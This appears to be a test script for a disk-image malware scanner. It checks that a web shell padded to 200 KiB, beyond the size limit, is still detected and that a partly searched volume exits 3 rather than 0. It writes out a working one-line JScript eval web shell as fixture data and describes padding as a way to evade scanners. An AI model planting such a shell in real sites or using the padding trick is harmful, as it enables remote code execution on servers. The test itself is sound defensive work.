#!/bin/sh
# A web shell padded past the size limit (the attacker knows scanners skip
# big files) is still reported: the name and path rules run on every stream,
# YARA searches the head and the tail of a stream too large to read whole,
# the skip is listed with what was done, and a run that left such a stream
# without a finding exits 3 (incomplete), never 0.
. "$TOP/tests/lib/tap.sh"
python3 - "$TMP" <<'PY'
import sys
d = sys.argv[1]
shell = b'<script language="JScript" runat="server">function Page_Load(){eval(Request["pad"],"unsafe");}</script>\r\n'
open(d + '/tail.bin', 'wb').write(b' ' * (200 * 1024) + shell)
open(d + '/head.bin', 'wb').write(shell + b' ' * (200 * 1024))
open(d + '/benign.bin', 'wb').write(b'\x00' * (200 * 1024))
PY
cat >"$TMP/pad.spec" <<'SPEC'
disk gpt size=96M
part ntfs start=2048 size=64M label=SYSTEM
file \inetpub\wwwroot\shells\tail.txt from:tail.bin
file \inetpub\wwwroot\shells\head.txt from:head.bin
SPEC
cat >"$TMP/benign.spec" <<'SPEC'
disk gpt size=96M
part ntfs start=2048 size=64M label=SYSTEM
file \data\big.bin from:benign.bin
file \data\small.txt text:hello\r\n
SPEC
mkimage "$TMP/pad.spec" "$TMP/pad.img" && mkimage "$TMP/benign.spec" "$TMP/benign.img"
ok $? "fixtures build"
IMAGES="$TMP/pad.img $TMP/benign.img"

run scan "$TMP/pad.img" --full --max-size 65536 --format jsonl --out "$TMP/o"
[ "$RC" -eq 1 ]; ok $? "padded shells above --max-size give findings (exit 1)"
for f in tail head; do
	grep "shells\\\\\\\\$f.txt" "$TMP/out" | grep -q 'EXH_WEBSHELL_Chopper_JScript_Eval'
	ok $? "the shell at the $f of a 200 KiB stream is reported by its content rule"
done
n=$(grep -c '^skipped too-large .*not hashed; YARA searched its first and last chunk only' "$TMP/o/summary.txt")
[ "$n" -eq 2 ]; ok $? "both skips say the stream was searched in part, not hashed ($n)"

run scan "$TMP/benign.img" --full --max-size 65536
[ "$RC" -eq 3 ]; ok $? "a run that left a big stream searched only in part exits 3, not 0"
run scan "$TMP/benign.img" --full
[ "$RC" -eq 0 ]; ok $? "the same volume read whole is clean (exit 0)"
report_unchanged
done_testing
